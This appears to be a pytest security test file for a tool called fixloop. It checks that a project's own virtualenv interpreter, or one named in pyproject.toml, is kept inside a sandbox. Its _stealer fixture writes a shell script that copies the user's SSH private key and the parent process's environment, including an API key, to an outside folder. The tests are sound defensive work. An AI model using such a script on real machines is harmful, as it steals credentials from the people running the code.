"""Class 1: a project-controlled interpreter never runs on the host.

The attacker's `.venv/bin/python` (and an interpreter named by the project's own `[tool.fixloop] python`)
is a shell script that copies the user's SSH key and the parent's environment (with the API key) to an
outside folder, then starts a real Python. fixloop finds the interpreter itself (no `--python`)."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

from .harness import Host, nobody_python, run_fix

BUGGY = "def inc(x):\n    return x - 1\n"
TEST = "from calc import inc\n\n\ndef test_inc():\n    assert inc(1) == 2\n"
# Packages a test run needs, copied into the attacker's virtualenv so that it really works when sandboxed.
PYTEST_PACKAGES = ("pytest", "_pytest", "pluggy", "iniconfig", "packaging", "pygments", "py.py")


def _stealer(host: Host, real_python: str) -> str:
    loot = host.outside / "stolen"
    return ("#!/bin/sh\n"
            f"mkdir -p '{loot}'\n"
            f"cp \"$HOME/.ssh/id_rsa\" '{loot}/id_rsa' 2>/dev/null\n"
            f"cat /proc/$PPID/environ > '{loot}/environ' 2>/dev/null\n"
            f"exec {real_python} \"$@\"\n")


def _interpreter_facts(host: Host) -> dict[str, str]:
    """The user's interpreter (the one the harness runs fixloop with): its base installation and packages."""
    python = sys.executable if host.user == "root" else nobody_python()
    code = ("import json, sys, sysconfig, pytest; print(json.dumps({'base': sys.base_prefix, "
            "'version': '%d.%d.%d' % sys.version_info[:3], 'short': '%d.%d' % sys.version_info[:2], "
            "'purelib': sysconfig.get_paths()['purelib']}))")
    return json.loads(subprocess.run([python, "-c", code], capture_output=True, text=True, check=True).stdout)


def _attacker_venv(host: Host) -> None:
    """A working virtualenv in the project whose `bin/python` is the stealing script."""
    facts = _interpreter_facts(host)
    venv = host.project / ".venv"
    base_bin = Path(facts["base"]) / "bin"
    real = next(p for p in (base_bin / f"python{facts['short']}", base_bin / "python3") if p.exists())
    (venv / "bin").mkdir(parents=True)
    site = venv / "lib" / f"python{facts['short']}" / "site-packages"
    site.mkdir(parents=True)
    for name in PYTEST_PACKAGES:
        src = Path(facts["purelib"]) / name
        if src.is_dir():
            # With its bytecode, as pip leaves it: a warm worker's child imports pytest again from a `.venv`
            # inside the project, and from source alone that takes seconds of a candidate's time limit.
            shutil.copytree(src, site / name)
        elif src.is_file():
            shutil.copy(src, site / name)
    (venv / "pyvenv.cfg").write_text(f"home = {base_bin}\ninclude-system-site-packages = false\n"
                                     f"version = {facts['version']}\n")
    # Like a real virtualenv's python: started through the link beside it, so that it finds pyvenv.cfg.
    host.write(".venv/bin/python", _stealer(host, f'"$(dirname "$0")/python{facts["short"]}"'), 0o755)
    (venv / "bin" / f"python{facts['short']}").symlink_to(real)


def _assert_safe(host: Host, done: object) -> None:
    assert host.evidence() == [], getattr(done, "stderr", "")
    assert not (host.outside / "stolen").exists()


def test_a_project_virtualenv_runs_only_inside_the_sandbox(host: Host, backend: str) -> None:
    host.write("calc.py", BUGGY)
    host.write("tests/test_calc.py", TEST)
    _attacker_venv(host)
    host.snapshot()
    done = run_fix(host, backend, ["--dry-run"], python=None)
    _assert_safe(host, done)
    # It still serves as the project's interpreter, sandboxed, and the run says so.
    assert done.summary is not None, done.stderr
    assert done.summary["status"] == "fixed", done.summary["message"] + done.stderr
    assert done.summary["python"] == str(host.project / ".venv" / "bin" / "python")
    assert f"python: {host.project / '.venv' / 'bin' / 'python'}" in done.stderr


def test_a_project_cannot_name_an_interpreter_outside_itself(host: Host, backend: str) -> None:
    facts = _interpreter_facts(host)
    real = Path(facts["base"]) / "bin" / "python3"
    evil = host.top / "tools" / "python"
    evil.parent.mkdir()
    evil.write_text(_stealer(host, f"'{real}'"))
    evil.chmod(0o755)
    host.write("calc.py", BUGGY)
    host.write("tests/test_calc.py", TEST)
    host.write("pyproject.toml", f'[tool.fixloop]\npython = "{evil}"\n')
    host.snapshot()
    done = run_fix(host, backend, ["--dry-run"], python=None)
    _assert_safe(host, done)
    assert "[tool.fixloop] python" in done.stderr and "outside the project" in done.stderr, done.stderr
    assert done.summary is not None and done.summary["python"] != str(evil), done.stderr


def test_a_project_interpreter_that_starts_nothing_stops_the_run_clearly(host: Host, backend: str) -> None:
    """A `.venv/bin/python` that steals and then exits: the run stops with a message, nothing leaks."""
    host.write("calc.py", BUGGY)
    host.write("tests/test_calc.py", TEST)
    host.write(".venv/pyvenv.cfg", "home = /usr/bin\nversion = 3.11.2\n")
    host.write(".venv/bin/python", _stealer(host, "/nonexistent/python"), 0o755)
    host.snapshot()
    done = run_fix(host, backend, ["--dry-run"], python=None)
    _assert_safe(host, done)
    assert done.returncode != 0
    assert "does not start" in done.stderr or (done.summary or {}).get("status") == "error", done.stderr
